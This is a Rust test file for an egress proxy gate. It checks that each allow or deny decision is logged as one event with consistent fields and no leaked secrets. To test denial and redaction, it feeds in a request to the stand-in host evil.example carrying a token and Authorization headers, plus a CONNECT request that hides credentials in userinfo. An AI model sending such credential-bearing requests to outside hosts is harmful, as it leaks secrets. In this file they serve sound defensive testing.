//! One event for each decision, and what it says.

use crate::recorder;
use crate::support::{Gate, Target, connect_to, policy_of};

#[tokio::test]
async fn every_decision_is_one_event_with_the_same_fields_and_no_secrets() {
    let target = Target::mirror_requests().await;
    let port = target.port().to_string();
    let gate = Gate::serve(&policy_of(&[
        target.address.to_string(),
        "localhost:1".to_owned(),
    ]))
    .await;

    gate.connect().await.open_tunnel(target.address).await;
    let allowed = recorder::only_event();
    allowed.check(&[
        ("level", "DEBUG"),
        ("message", "tunnel allowed"),
        ("gate", "egress"),
        ("decision", "allow"),
        ("reason", ""),
        ("rule", "egress.hosts"),
        ("registry", "127.0.0.1"),
        ("port", &port),
        ("method", "CONNECT"),
        ("principal", "daemon"),
    ]);

    let secret = "GET http://evil.example/secret?token=secret HTTP/1.1\r\nHost: evil.example\r\n\
                  Authorization: Bearer secret\r\nProxy-Authorization: Basic secret\r\n\r\n";
    let answer = gate.ask(secret).await;
    let denied = recorder::only_event();
    denied.leads_from(&answer);
    denied.check(&[
        ("level", "INFO"),
        ("message", "tunnel denied"),
        ("decision", "deny"),
        ("reason", "host-not-allowed"),
        ("registry", "evil.example"),
        ("port", "80"),
        ("method", "GET"),
    ]);
    assert!(!format!("{denied:?}").contains("secret"));
    assert_eq!(allowed.names(), denied.names());

    let answer = gate.ask(&connect_to("localhost:1")).await;
    let refused = recorder::only_event();
    refused.leads_from(&answer);
    refused.check(&[
        ("message", "tunnel denied"),
        ("reason", "address-not-allowed"),
        ("registry", "localhost"),
    ]);
    assert_eq!(allowed.names(), refused.names());

    let answer = gate
        .ask("CONNECT secret@ghcr.io:443 HTTP/1.1\r\nHost: ghcr.io:443\r\n\r\n")
        .await;
    let unreadable = recorder::only_event();
    unreadable.leads_from(&answer);
    unreadable.check(&[
        ("level", "WARN"),
        ("message", "request unreadable"),
        ("decision", "deny"),
        ("reason", "userinfo"),
    ]);
    assert!(!format!("{unreadable:?}").contains("secret"));

    gate.swap(r#"{ "version": 1, "mode": "audit", "registries": [] }"#);
    gate.ask(&connect_to("name.invalid:443")).await;
    let suppressed = recorder::only_event();
    suppressed.check(&[
        ("level", "INFO"),
        ("decision", "allow"),
        ("reason", "host-not-allowed"),
        ("rule", "mode: audit"),
    ]);
}
